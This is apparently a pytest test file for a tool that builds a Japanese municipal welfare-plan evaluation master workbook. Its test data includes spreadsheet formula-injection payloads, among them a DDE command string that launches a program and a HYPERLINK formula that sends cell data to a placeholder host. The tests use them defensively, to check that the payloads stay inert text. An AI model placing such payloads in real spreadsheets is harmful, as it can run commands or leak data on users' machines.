"""The master workbook and the committee summary, read back cell by cell with openpyxl.

The inputs are the published R6 answers (demo/r6-results.yaml) for all 69 assignments, one
returned file per office, merged by pipeline.merge. So the counts checked here are the published
ones: 基本目標1 A25 B9, 基本目標2 A6 B9 D3, 基本目標3 A10 B6 D1.
"""

from __future__ import annotations

import dataclasses
import re
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
import yaml

from pipeline.atomic import write_atomically
from pipeline.catalog import Catalog, load_catalog
from pipeline.master import (
    MASTER_SHEETS,
    master_name,
    master_sheets,
    summary_name,
    write_master,
    write_summary,
)
from pipeline.merge import merge
from pipeline.report import Evaluation, FileVerdict, Issue, Outcome, Provenance, make_issue
from pipeline.sheets.evaluation_list import list_columns
from pipeline.sheets.goals import CONTINUED, goal_columns
from pipeline.sheets.kit import FONT, UNIT_FONT
from pipeline.sheets.tally import ERROR_MARK, MISSING_MARK

ROOT = Path(__file__).resolve().parent.parent
GENERATED = "2025-05-02T03:00:00+09:00"
RECEIVED = "2025-05-01T09:00:00+09:00"
PUBLISHED_COUNTS = {1: (25, 9, 0, 0), 2: (6, 9, 0, 3), 3: (10, 6, 0, 1)}
PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"x")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u3000=1+1",
    "{=1+1}",
    "http://example.com/",
    "＝SUM(A1)",
    "<r><t>注入</t></r><si><t>injected</t></si><r><t>x</t></r>",  # xlsxwriter's rich-string shape
]


# --- building the inputs ------------------------------------------------------------------


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return load_catalog("R6")


@pytest.fixture(scope="module")
def published(catalog: Catalog) -> dict[tuple[str, str], dict]:
    """The published answers keyed like assignments: (project key, 担当課)."""
    data = yaml.safe_load((ROOT / "demo" / "r6-results.yaml").read_text(encoding="utf-8"))
    out = {}
    for r in data["results"]:
        project = catalog.project_for(r["project"])
        assert project is not None, r["project"]
        out[(project.key, r["department"])] = r
    assert len(out) == len(catalog.assignments) == 69
    return out


def file_name(office: str) -> str:
    return f"R6_地域福祉計画評価_{office}.xlsx"


def build_files(catalog: Catalog, published: dict, *, skip_offices: tuple[str, ...] = (),
                texts: dict[tuple[str, str], str] | None = None) -> list[FileVerdict]:
    """One accepted verdict per office holding its published rows (texts overrides 事業実績)."""
    rows: dict[str, list[Evaluation]] = {}
    for n, a in enumerate(catalog.assignments):
        if a.office in skip_offices:
            continue
        r = published[a.key]
        rows.setdefault(a.office, []).append(
            Evaluation(
                project=a.project,
                department=a.department,
                result=(texts or {}).get(a.key, r["result"]),
                rating=r["rating"],
                outlook=r["outlook"],
                file=file_name(a.office),
                sheet="評価表",
                row=n + 5,
                received=RECEIVED,
            )
        )
    return [
        FileVerdict.judged(
            Provenance(file_name(office), f"inbox/{file_name(office)}", received=RECEIVED), [], mine,
            office=office, office_source="template", offices=frozenset({office}), kind="template",
        )
        for office, mine in rows.items()
    ]


def sample_issues() -> list[Issue]:
    return [
        make_issue("rating-invalid", file="R6_地域福祉計画評価_健康課.xlsx", sheet="評価表", cell="G7", value="Ａ+"),
        make_issue("column-extra", file="R6_地域福祉計画評価_指導室.xlsx", sheet="評価表", cell="J4", value="備考"),
        make_issue("file-unreadable", file="=cmd|' /C calc'!A0.xlsx", detail="zip が壊れています"),
    ]


def write(tmp_path: Path, catalog: Catalog, files: list[FileVerdict], issues: list[Issue] | None = None,
          name: str = "master.xlsx") -> tuple[Path, Outcome]:
    result = merge(catalog, files)
    path = tmp_path / name
    write_master(path, catalog, result, files, sample_issues() if issues is None else issues,
                 generated=GENERATED)
    return path, result


@pytest.fixture(scope="module")
def full(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog, published: dict):
    """The master for a night on which every office returned its published answers."""
    files = build_files(catalog, published)
    path, result = write(tmp_path_factory.mktemp("full"), catalog, files)
    return path, result, files, openpyxl.load_workbook(path)


def values(ws, row: int, ncols: int) -> list:
    return [ws.cell(row=row, column=c).value for c in range(1, ncols + 1)]


def label_value(label: str):
    """事業No. as the master writes it: a number when it is one, else the printed text."""
    return int(label) if label.isdigit() else label


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


# --- names and sheets ---------------------------------------------------------------------


def test_file_names(catalog: Catalog) -> None:
    assert master_name(catalog) == "地域福祉計画_評価集約_R6.xlsx"
    assert summary_name(catalog) == "地域福祉計画_評価集計_R6.xlsx"


def test_sheet_names(catalog: Catalog, full) -> None:
    wb = full[3]
    assert tuple(wb.sheetnames) == MASTER_SHEETS == master_sheets(catalog)


# --- 評価一覧 --------------------------------------------------------------------------------


def test_list_header_and_every_row_in_plan_order(catalog: Catalog, published: dict, full) -> None:
    ws = full[3]["評価一覧"]
    headers = [h for h, _ in list_columns(catalog)]
    assert headers[6] == "事業実績・評価理由 (令和6年度)"
    assert values(ws, 1, 11) == headers
    assert ws.max_row == 1 + 69
    for i, a in enumerate(catalog.assignments, start=2):
        p = catalog.projects[a.project]
        r = published[a.key]
        assert values(ws, i, 11) == [
            p.goal,
            p.measure_code,
            label_value(p.label),
            p.name,
            p.content,
            a.department,
            r["result"],
            r["rating"],
            r["outlook"],
            file_name(a.office),
            datetime(2025, 5, 1, 9, 0),
        ], f"row {i}"
    # the grouped project prints as published
    assert "31～34" in [ws.cell(row=i, column=3).value for i in range(2, 71)]


def test_list_sheet_setup(full) -> None:
    ws = full[3]["評価一覧"]
    assert ws.freeze_panes == "E2"
    assert ws.auto_filter.ref == "A1:K70"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.paperSize == 8
    assert ws.page_setup.orientation == "landscape"
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToWidth in (None, 1)  # 1 is the default and is omitted
    assert ws.page_setup.fitToHeight == 0
    assert ws.oddFooter.center.text == "&P / &N"
    assert "令和6年度" in ws.oddHeader.left.text
    assert "2025-05-02 03:00" in ws.oddHeader.right.text
    # long columns wrap; the date-time has a date format
    assert ws["G2"].alignment.wrap_text and ws["E2"].alignment.wrap_text
    assert ws["K2"].number_format == "yyyy/mm/dd hh:mm"
    # widths fit Japanese (a full-width character ≈ 2 units)
    assert ws.column_dimensions["D"].width >= 28 and ws.column_dimensions["G"].width >= 60


def test_rating_colours_are_one_conditional_format_per_letter_over_the_column(full) -> None:
    ws = full[3]["評価一覧"]
    rules = {str(cf.sqref): cf.rules for cf in ws.conditional_formatting}
    assert list(rules) == ["H2:H70"]
    got = {r.formula[0]: r.dxf.fill.bgColor.rgb for r in rules["H2:H70"]}
    assert got == {'"A"': "FFC6EFCE", '"B"': "FFDDEBF7", '"C"': "FFFCD5B4", '"D"': "FFFFC7CE"}
    assert all(r.type == "cellIs" and r.operator == "equal" for r in rules["H2:H70"])
    # the letter itself stays in the cell, in dark text
    assert all(r.dxf.font.color.rgb.startswith("FF") for r in rules["H2:H70"])


def test_every_font_is_the_ud_font(full) -> None:
    path, _, _, wb = full
    with zipfile.ZipFile(path) as z:
        styles = z.read("xl/styles.xml").decode("utf-8")
    # the standard font is the monospaced UD font (it sets the column-width unit); cells use FONT
    assert set(re.findall(r'<name val="([^"]+)"', styles)) == {FONT, UNIT_FONT}
    assert re.search(r'<cellStyleXfs count="1"><xf numFmtId="0" fontId="0"', styles)
    assert re.search(rf'<fonts count="\d+"><font><sz val="11"/><color theme="1"/><name val="{UNIT_FONT}"/>', styles)
    assert "<scheme " not in styles  # a theme scheme would make Excel show the theme font instead
    for name in wb.sheetnames:
        ws = wb[name]
        for row in ws.iter_rows(min_row=1, max_row=min(ws.max_row, 30)):
            for cell in row:
                if cell.value is not None:
                    assert cell.font.name == FONT, (name, cell.coordinate)


def test_every_sheet_prints_a3_landscape_with_page_numbers(full) -> None:
    for ws in full[3].worksheets:
        assert ws.page_setup.paperSize == 8, ws.title
        assert ws.page_setup.orientation == "landscape", ws.title
        assert ws.oddFooter.center.text == "&P / &N", ws.title
        assert ws.oddHeader.center.text == "&A", ws.title  # the sheet's name on every page
        # the header and footer sit inside the margins, clear of the cells
        m = ws.page_margins
        assert m.top - m.header >= 0.45 and m.bottom - m.footer >= 0.35, ws.title
        if ws.title in ("評価一覧", "検証結果"):
            # every row names its 事業 (or file): one page wide, as many tall as needed
            assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToHeight == 0, ws.title
        else:
            # planned page breaks: a fixed scale (Excel ignores manual breaks on a fitted sheet)
            assert not ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
            assert 60 <= (ws.page_setup.scale or 100) <= 100, ws.title


# --- 基本目標N -------------------------------------------------------------------------------


def expected_structure(catalog: Catalog, g: int) -> list[list]:
    lines = []
    for d in (x for x in catalog.directions if x.goal == g):
        lines.append(["施策の方向性", None, f"({d.number}) {d.name}"])
        for k, m in enumerate(x for x in catalog.measures if x.goal == g and x.direction == d.number):
            lines.append(["施策" if k == 0 else None, None, f"{'①②③④⑤⑥⑦⑧⑨'[m.number - 1]} {m.name}"])
    return lines


def page_tops(ws) -> set[int]:
    """1-based rows that begin a printed page (after a manual break)."""
    return {b.id + 1 for b in ws.row_breaks.brk}


def expected_goal_rows(catalog: Catalog, published: dict, g: int, missing: tuple[str, ...] = (),
                       tops: set[int] = frozenset(), first: int = 0) -> list[list]:
    """The published table's rows: 施策No. on a measure's first row, 事業 cells on a project's first row,
    and on the first row of each printed page (`tops`, sheet rows; `first`: the first data row): there a
    project that began on an earlier page shows its name with (続き) and no 内容."""
    rows, last_measure, last_project = [], None, None
    for a in catalog.assignments:
        p = catalog.projects[a.project]
        if p.goal != g:
            continue
        new_measure = (p.direction, p.measure) != last_measure
        new_project = new_measure or a.project != last_project
        last_measure, last_project = (p.direction, p.measure), a.project
        top = first + len(rows) in tops
        r = published[a.key]
        answer = [MISSING_MARK, None, None] if a.office in missing else [r["result"], r["rating"], r["outlook"]]
        rows.append([
            p.measure_code if new_measure or top else None,
            label_value(p.label) if new_project or top else None,
            p.name if new_project else (p.name + CONTINUED if top else None),
            p.content if new_project else None,
            a.department,
            *answer,
        ])
    return rows


@pytest.mark.parametrize("g", [1, 2, 3])
def test_goal_sheet_structure_and_rows(catalog: Catalog, published: dict, full, g: int) -> None:
    ws = full[3][f"基本目標{g}"]
    goal = catalog.goals[g - 1]
    assert ws["A1"].value == f"基本目標 {g} {goal.name}"
    structure = expected_structure(catalog, g)
    for i, line in enumerate(structure, start=3):
        assert values(ws, i, 3) == line, f"structure row {i}"
    head = 3 + len(structure) + 1
    assert values(ws, head - 1, 8) == [None] * 8
    assert values(ws, head, 8) == goal_columns(catalog)
    assert ws.print_title_rows == f"${head}:${head}"
    expected = expected_goal_rows(catalog, published, g, tops=page_tops(ws), first=head + 1)
    for i, row in enumerate(expected, start=head + 1):
        assert values(ws, i, 8) == row, f"基本目標{g} row {i}"
    assert values(ws, head + 1 + len(expected), 8) == [None] * 8  # nothing after the table
    assert ws.max_row == head + len(expected) + 1  # the closing border row
    rules = {str(cf.sqref) for cf in ws.conditional_formatting}
    assert rules == {f"G{head + 1}:G{head + len(expected)}"}


def test_goal_sheet_continuation_rows_are_blank_as_published(full) -> None:
    ws = full[3]["基本目標1"]
    rows = {ws.cell(row=r, column=5).value: r for r in range(18, ws.max_row)}
    health = rows["健康課"]  # project 7's second 担当課
    assert values(ws, health, 4) == [None, None, None, None]
    assert ws.cell(row=health - 1, column=2).value == 7
    first = ws.cell(row=health - 1, column=3)
    assert first.alignment.wrap_text and first.border.top.style == "thin"
    cont = ws.cell(row=health, column=3)
    assert cont.border.top.style is None and cont.border.left.style == "thin"


# --- 集計 ------------------------------------------------------------------------------------


def find_row(ws, column: int, value) -> int:
    for r in range(1, ws.max_row + 1):
        if ws.cell(row=r, column=column).value == value:
            return r
    raise AssertionError(f"{value!r} not found in column {column} of {ws.title}")


def test_summary_counts_per_goal_are_the_published_ones(full) -> None:
    ws = full[3]["集計"]
    assert values(ws, find_row(ws, 1, "基本目標別") + 1, 13) == [
        "区分", "名称", "A", "B", "C", "D", "未提出", "未反映", "合計", "A割合", "B割合", "C割合", "D割合"]
    for g, (a, b, c, d) in PUBLISHED_COUNTS.items():
        r = find_row(ws, 1, f"基本目標{g}")
        total = a + b + c + d
        assert values(ws, r, 9)[2:] == [a, b, c, d, 0, 0, total]
        shares = values(ws, r, 13)[9:]
        assert shares == pytest.approx([a / total, b / total, c / total, d / total])
        assert ws.cell(row=r, column=10).number_format == "0.0%"
    total_row = find_row(ws, 1, "合計")
    assert values(ws, total_row, 9)[2:] == [41, 24, 0, 4, 0, 0, 69]


def test_summary_counts_per_direction_and_department_add_up(catalog: Catalog, full) -> None:
    ws = full[3]["集計"]
    for g, (a, b, c, d) in PUBLISHED_COUNTS.items():
        rows = [find_row(ws, 1, f"基本目標{g} ({x.number})") for x in catalog.directions if x.goal == g]
        sums = [sum(ws.cell(row=r, column=col).value for r in rows) for col in range(3, 7)]
        assert sums == [a, b, c, d]
    # 担当課別: offices in the registry's order, adjacent, each office with more than one 担当課 closed
    # by its 小計 (set bold like the total)
    start = find_row(ws, 1, "担当課別") + 2
    end = find_row(ws, 1, "C・D 評価の事業")
    # (the table may continue on the next page under its repeated title and headings)
    rows = [values(ws, r, 9) for r in range(start, end) if isinstance(ws.cell(row=r, column=3).value, int)]
    offices = list(catalog.offices)
    assert [row[0] for row in rows] == sorted((row[0] for row in rows), key=offices.index)
    entries = [row for row in rows if row[1] != "小計"]
    assert sorted(row[1] for row in entries) == sorted({x.department for x in catalog.assignments})
    assert sum(row[8] for row in entries) == 69
    welfare = [row for row in rows if row[0] == "地域福祉課"]
    assert welfare[0] == ["地域福祉課", "地域福祉課(関係各課)", 5, 5, 0, 2, 0, 0, 12]
    assert len(welfare) == 6 and welfare[-1][1] == "小計"  # five 担当課, then the office's 小計
    assert welfare[-1][2:] == [sum(row[c] for row in welfare[:-1]) for c in range(2, 9)]
    assert ws.cell(row=find_row(ws, 2, "小計"), column=2).font.bold
    health = [row for row in rows if row[0] == "健康課"]
    assert [row[1] for row in health] == ["健康課"]  # one 担当課: no 小計


def test_summary_lists_the_c_and_d_rows_with_reasons(catalog: Catalog, published: dict, full) -> None:
    ws = full[3]["集計"]
    head = find_row(ws, 1, "C・D 評価の事業") + 1
    assert [ws.cell(row=head, column=c).value for c in (1, 2, 3, 4, 7)] == [
        "事業No.", "個別事業・取り組み", "事業評価", "担当課", "事業実績・評価理由"]
    expected = [("21", "地域福祉課(関係各課)"), ("23", "地域福祉課"), ("24", "地域福祉課(関係各課)"),
                ("41", "地域福祉課")]
    # the table may continue on the next page, under its repeated title and headings
    rows = [r for r in range(head + 1, ws.max_row + 1) if isinstance(ws.cell(row=r, column=1).value, int)]
    assert len(rows) == len(expected)
    for i, (key, dept) in zip(rows, expected, strict=True):
        row = [ws.cell(row=i, column=c).value for c in (1, 2, 3, 4, 7)]
        assert row == [int(key), catalog.projects[key].name, "D", dept, published[(key, dept)]["result"]]
    assert f"G{head + 1}:M{head + 1}" in {str(m) for m in ws.merged_cells.ranges}
    assert any(str(cf.sqref) == f"C{rows[0]}:C{rows[-1]}" for cf in ws.conditional_formatting)


def test_summary_has_native_stacked_bar_charts(full) -> None:
    path = full[0]
    with zipfile.ZipFile(path) as z:
        charts = sorted(n for n in z.namelist() if re.fullmatch(r"xl/charts/chart\d+\.xml", n))
        assert len(charts) == 4  # all goals, then one per goal
        for n in charts:
            xml = z.read(n).decode("utf-8")
            assert '<c:barDir val="bar"/>' in xml and '<c:grouping val="stacked"/>' in xml
            assert xml.count("<c:ser>") == 4  # A, B, C, D
            assert "集計!$C$" in xml and "集計!$F$" in xml
        rels = z.read("xl/worksheets/_rels/sheet5.xml.rels").decode("utf-8")
        assert "drawing" in rels  # the charts sit on 集計 (the 5th sheet)


def test_no_formulas_anywhere(full) -> None:
    path, _, _, wb = full
    for name, xml in sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert "<hyperlink" not in xml, name
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)


# --- 提出状況 and 検証結果 -----------------------------------------------------------------------


def test_status_sheet_one_row_per_office(full) -> None:
    _, result, files, wb = full
    ws = wb["提出状況"]
    assert values(ws, 1, 10) == ["課", "担当件数", "受理件数", "未提出件数", "状況", "受信ファイル数", "最終ファイル",
                                 "最終受信日時", "送信者", "エラーの内容"]
    for i, o in enumerate(result.offices, start=2):
        assert values(ws, i, 10) == [o.office, o.assignments, o.assignments, 0, "受理", 1, file_name(o.office),
                                     datetime(2025, 5, 1, 9, 0), None, None]
    assert ws.auto_filter.ref == f"A1:J{len(result.offices) + 1}"
    assert ws.freeze_panes == "B2"
    rules = [cf for cf in ws.conditional_formatting]
    assert [str(cf.sqref) for cf in rules] == [f"E2:E{len(result.offices) + 1}"]
    assert {r.formula[0] for r in rules[0].rules} == {'"受理"', '"一部受理"', '"エラーあり"', '"未提出"', '"差出課不明"',
                                                       'LEFT(E2,3)="受理("'}
    head = find_row(ws, 1, "受信ファイル一覧") + 1
    assert ws.cell(row=head, column=1).value == "ファイル"
    for i, f in enumerate(files, start=head + 1):
        assert values(ws, i, 7) == [f.name, f.office, "受理", len(f.rows), 0, 0, datetime(2025, 5, 1, 9, 0)]


def test_status_sheet_lists_unattributed_files_and_error_reasons(tmp_path: Path, catalog: Catalog,
                                                                 published: dict) -> None:
    files = build_files(catalog, published, skip_offices=("健康課",))
    corrupt = FileVerdict.judged(
        Provenance("健康課/R6_地域福祉計画評価_健康課.xlsx", received=RECEIVED),
        [make_issue("file-corrupt", file="健康課/R6_地域福祉計画評価_健康課.xlsx", detail="ZIP 構造が不正")],
        office="健康課", office_source="file-name", offices=frozenset({"健康課"}),
    )
    anonymous = FileVerdict.judged(Provenance("評価.xlsx", received=RECEIVED),
                                   [make_issue("file-not-workbook", file="評価.xlsx", detail="PDF")])
    path, result = write(tmp_path, catalog, [*files, corrupt, anonymous])
    ws = openpyxl.load_workbook(path)["提出状況"]
    health = find_row(ws, 1, "健康課")
    n = sum(1 for a in catalog.assignments if a.office == "健康課")
    assert values(ws, health, 6) == ["健康課", n, 0, n, "エラーあり", 1]
    assert ws.cell(row=health, column=10).value == "健康課/R6_地域福祉計画評価_健康課.xlsx: ファイルが壊れている"
    row = find_row(ws, 1, "差出課不明")
    assert values(ws, row, 7) == ["差出課不明", "―", "―", "―", "差出課不明", 1, "評価.xlsx"]
    assert row == len(result.offices) + 2  # right under the offices


def test_issues_sheet_lists_every_issue(full) -> None:
    ws = full[3]["検証結果"]
    assert values(ws, 1, 6) == ["ファイル", "シート", "セル", "コード", "重要度", "内容"]
    issues = sample_issues()
    for i, issue in enumerate(issues, start=2):
        assert values(ws, i, 6) == [issue.file, issue.sheet or None, issue.cell or None, issue.code,
                                    "エラー" if issue.is_error else "警告", issue.message]
    assert ws.max_row == 1 + len(issues)
    assert ws.auto_filter.ref == "A1:F4" and ws.freeze_panes == "A2"
    assert ws["A4"].data_type == "s" and ws["A4"].value.startswith("=cmd")


def test_no_issues_says_so(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    path, _ = write(tmp_path, catalog, build_files(catalog, published), issues=[])
    ws = openpyxl.load_workbook(path)["検証結果"]
    assert ws["A2"].value == "問題はありません。"


def test_missing_office_is_shown_as_not_submitted(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    files = build_files(catalog, published, skip_offices=("交通対策課", "社会福祉協議会"))
    path, result = write(tmp_path, catalog, files)
    wb = openpyxl.load_workbook(path)
    missing = ("交通対策課", "社会福祉協議会")
    n_missing = sum(1 for a in catalog.assignments if a.office in missing)
    assert wb["評価一覧"].max_row == 1 + 69 - n_missing

    # 基本目標 sheets: every assignment appears; a missing one has (未提出) in grey italics
    for g in (1, 2, 3):
        ws = wb[f"基本目標{g}"]
        head = find_row(ws, 1, "施策No.")
        expected = expected_goal_rows(catalog, published, g, missing, tops=page_tops(ws), first=head + 1)
        for i, row in enumerate(expected, start=head + 1):
            assert values(ws, i, 8) == row, f"基本目標{g} row {i}"
    ws = wb["基本目標1"]
    head = find_row(ws, 1, "施策No.")
    r = next(i for i in range(head + 1, ws.max_row) if ws.cell(row=i, column=5).value == "交通対策課")
    cell = ws.cell(row=r, column=6)
    assert cell.value == MISSING_MARK and cell.font.italic and cell.font.color.rgb == "FF808080"
    assert ws.cell(row=r, column=7).value is None and ws.cell(row=r, column=8).value is None

    # 集計: 未提出 counted per goal, shares are of submitted rows only
    ws = wb["集計"]
    for g in (1, 2, 3):
        missed = [a for a in catalog.assignments if a.office in missing and catalog.goal_of(a.project) == g]
        counts = {x: 0 for x in "ABCD"}
        for a in catalog.assignments:
            if catalog.goal_of(a.project) == g and a.office not in missing:
                counts[published[a.key]["rating"]] += 1
        row = values(ws, find_row(ws, 1, f"基本目標{g}"), 10)
        assert row[2:9] == [*counts.values(), len(missed), 0, sum(counts.values()) + len(missed)]
        assert row[9] == pytest.approx(counts["A"] / sum(counts.values()))

    # 提出状況
    ws = wb["提出状況"]
    statuses = {ws.cell(row=i, column=1).value: values(ws, i, 6) for i in range(2, len(result.offices) + 2)}
    for office in missing:
        n = sum(1 for a in catalog.assignments if a.office == office)
        assert statuses[office] == [office, n, 0, n, "未提出", 0]
    assert statuses["地域福祉課"][4] == "受理"


def test_an_office_whose_return_was_rejected_is_not_called_not_submitted(tmp_path: Path, catalog: Catalog,
                                                                        published: dict) -> None:
    """健康課 sent a return the error kept out, 交通対策課 sent nothing: the goal sheets, 集計 and
    提出状況 tell the clerk which office to chase for a first answer and which for a correction."""
    files = build_files(catalog, published, skip_offices=("健康課", "交通対策課"))
    rejected = FileVerdict.judged(
        Provenance("R6_地域福祉計画評価_健康課.xlsx", received=RECEIVED),
        [make_issue("rating-invalid", file="R6_地域福祉計画評価_健康課.xlsx", sheet="評価表", cell="G7", value="Ｅ")],
        office="健康課", office_source="template", offices=frozenset({"健康課"}), kind="template",
    )
    path, _ = write(tmp_path, catalog, [*files, rejected])
    wb = openpyxl.load_workbook(path)
    marks = {}
    for g in (1, 2, 3):
        ws = wb[f"基本目標{g}"]
        for r in range(find_row(ws, 1, "施策No.") + 1, ws.max_row + 1):
            if ws.cell(r, 5).value in ("健康課", "交通対策課"):
                marks.setdefault(ws.cell(r, 5).value, set()).add(ws.cell(r, 6).value)
                assert ws.cell(r, 7).value is None and ws.cell(r, 6).font.italic
    assert marks == {"健康課": {ERROR_MARK}, "交通対策課": {MISSING_MARK}}
    ws = wb["集計"]
    health = [a for a in catalog.assignments if a.office == "健康課"]
    traffic = [a for a in catalog.assignments if a.office == "交通対策課"]
    total = values(ws, find_row(ws, 1, "合計"), 9)
    assert total[6:9] == [len(traffic), len(health), 69]
    note = " ".join(str(ws.cell(r, 1).value) for r in range(1, 5))
    assert f"未提出 {len(traffic)} 件・未反映 {len(health)} 件" in note
    row = find_row(ws, 2, "健康課")
    assert values(ws, row, 9)[6:] == [0, len(health), len(health)]


def test_file_list_counts_the_merges_warnings_on_a_file(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    """提出状況's 警告 column counts every warning of the file, the text checks' notes among them."""
    files = build_files(catalog, published)
    result = merge(catalog, files)
    name = files[0].name
    warning = make_issue("reason-same-as-last-year", file=name, sheet="評価表", cell="F5", project="1")
    result = result.with_notes([warning, warning])
    path = tmp_path / "master.xlsx"
    write_master(path, catalog, result, files, [], generated=GENERATED)
    ws = openpyxl.load_workbook(path)["提出状況"]
    row = find_row(ws, 1, name)
    assert values(ws, row, 6)[4:] == [0, 2]


# --- untrusted text -------------------------------------------------------------------------


def test_formula_like_text_stays_an_unchanged_string(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    keys = [a.key for a in catalog.assignments[: len(PAYLOADS)]]
    files = build_files(catalog, published, texts=dict(zip(keys, PAYLOADS, strict=True)))
    first = dataclasses.replace(files[0].rows[0], outlook="=1+1", file="@evil.xlsx")
    files[0] = dataclasses.replace(files[0], rows=(first, *files[0].rows[1:]))
    issues = [make_issue("rating-invalid", file="=HYPERLINK(\"http://x\")", value="=1+1")]
    path, _ = write(tmp_path, catalog, files, issues=issues)
    wb = openpyxl.load_workbook(path)
    ws = wb["評価一覧"]
    for i, payload in enumerate(PAYLOADS, start=2):
        cell = ws.cell(row=i, column=7)
        # A CR is stored as Excel's own _x000D_ escape, which Excel decodes and openpyxl does not.
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == payload, payload
    # Texts Excel would turn into a formula when retyped carry Excel's own quote-prefix style.
    for i, payload in enumerate(PAYLOADS, start=2):
        quoted = payload.lstrip(" \t\r\u3000")[:1] in "=+-@＝" or payload[0] in "\t\r"
        assert ws.cell(row=i, column=7).quotePrefix == quoted, payload
    assert ws["I2"].value == "=1+1" and ws["I2"].quotePrefix
    assert ws["J2"].value == "@evil.xlsx" and ws["J2"].quotePrefix
    assert not ws["G20"].quotePrefix  # ordinary text keeps the ordinary style
    # the same texts on the goal sheet
    ws = wb["基本目標1"]
    head = find_row(ws, 1, "施策No.")
    got = [ws.cell(row=r, column=6).value for r in range(head + 1, head + 1 + len(PAYLOADS))]
    assert [v.replace("_x000D_", "\r") for v in got] == PAYLOADS
    assert wb["検証結果"]["A2"].value == '=HYPERLINK("http://x")'
    for name, xml in sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert "<hyperlink" not in xml, name
    with zipfile.ZipFile(path) as z:
        assert not [n for n in z.namelist() if "externalLink" in n]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                assert cell.hyperlink is None


SAFE_TEXT_PAYLOADS = ["=1+1", "＝SUM(A1)", "＋1", "－1", "＠SUM(A1)", " =1+1", "\u3000＝1+1", "\t=1+1",
                      "@SUM(A1:A2)", "\n=1+1 改行で始まる"]  # fmt: skip


def test_celltext_payloads_are_quoted_text_in_master_and_summary(tmp_path: Path, catalog: Catalog,
                                                                  published: dict) -> None:
    # The D rows first: the summary's C/D table repeats their texts.
    cd = [a.key for a in catalog.assignments if published[a.key]["rating"] in "CD"]
    keys = cd + [a.key for a in catalog.assignments if a.key not in cd]
    texts = dict(zip(keys, SAFE_TEXT_PAYLOADS, strict=False))
    files = build_files(catalog, published, texts=texts)
    issues = [make_issue("rating-invalid", file=p, value=p) for p in SAFE_TEXT_PAYLOADS]
    path, result = write(tmp_path, catalog, files, issues=issues)
    summary = tmp_path / "summary.xlsx"
    write_summary(summary, catalog, result, generated=GENERATED)
    expected = {path: set(SAFE_TEXT_PAYLOADS), summary: {texts[k] for k in cd if k in texts}}
    assert len(expected[summary]) >= 3
    for book, payloads in expected.items():
        found: dict[str, bool] = {}
        for ws in openpyxl.load_workbook(book).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    # A CR is stored as Excel's own _x000D_ escape, which openpyxl does not decode.
                    text = cell.value.replace("_x000D_", "\r") if isinstance(cell.value, str) else None
                    if text in payloads:
                        assert cell.data_type == "s", (book.name, ws.title, cell.coordinate)
                        found[text] = found.get(text, True) and bool(cell.quotePrefix)
        assert found == dict.fromkeys(payloads, True), book.name
        for name, xml in sheet_xml(book).items():
            assert "<f>" not in xml and "<f " not in xml, (book.name, name)


def test_text_over_excel_limit_raises(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    key = catalog.assignments[3].key
    for text in ("あ" * 32_768, "\U0002000b" * 16_384, "\U00020bb7" * 17_000):  # 𠮷: 2 UTF-16 units each
        files = build_files(catalog, published, texts={key: text})
        result = merge(catalog, files)
        with pytest.raises(ValueError, match="32,767"):
            write_master(tmp_path / "too-long.xlsx", catalog, result, files, [], generated=GENERATED)
        with pytest.raises(ValueError, match="32,767"):
            write_summary(tmp_path / "too-long-summary.xlsx", catalog, result, generated=GENERATED)
    assert not (tmp_path / "too-long.xlsx").exists()


def test_text_at_excel_limit_is_kept_whole(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    key = catalog.assignments[3].key
    text = "あ" * 32_767
    path, _ = write(tmp_path, catalog, build_files(catalog, published, texts={key: text}))
    assert openpyxl.load_workbook(path)["評価一覧"]["G5"].value == text


def test_row_outside_the_plan_raises(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    files = build_files(catalog, published)
    result = merge(catalog, files)
    result = dataclasses.replace(result, rows=(*result.rows, Evaluation("1", "存在しない課", "x", "A", "y")))
    with pytest.raises(ValueError, match="存在しない課"):
        write_master(tmp_path / "m.xlsx", catalog, result, files, [], generated=GENERATED)


# --- determinism ----------------------------------------------------------------------------


def test_same_inputs_give_identical_bytes(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    first, _ = write(tmp_path, catalog, build_files(catalog, published), name="a.xlsx")
    second, _ = write(tmp_path, catalog, build_files(catalog, published), name="b.xlsx")
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as z:
        core = z.read("docProps/core.xml").decode("utf-8")
    assert "2024-04-01T00:00:00Z" in core  # fixed, never the time of the run
    result = merge(catalog, build_files(catalog, published))
    write_summary(tmp_path / "s1.xlsx", catalog, result, generated=GENERATED)
    write_summary(tmp_path / "s2.xlsx", catalog, result, generated=GENERATED)
    assert (tmp_path / "s1.xlsx").read_bytes() == (tmp_path / "s2.xlsx").read_bytes()


def test_same_inputs_give_identical_cells(tmp_path: Path, catalog: Catalog, published: dict) -> None:
    # The cell-level guarantee, independent of the byte-level one above.
    paths = [write(tmp_path, catalog, build_files(catalog, published), name=f"{n}.xlsx")[0] for n in "xy"]
    a, b = (openpyxl.load_workbook(p) for p in paths)
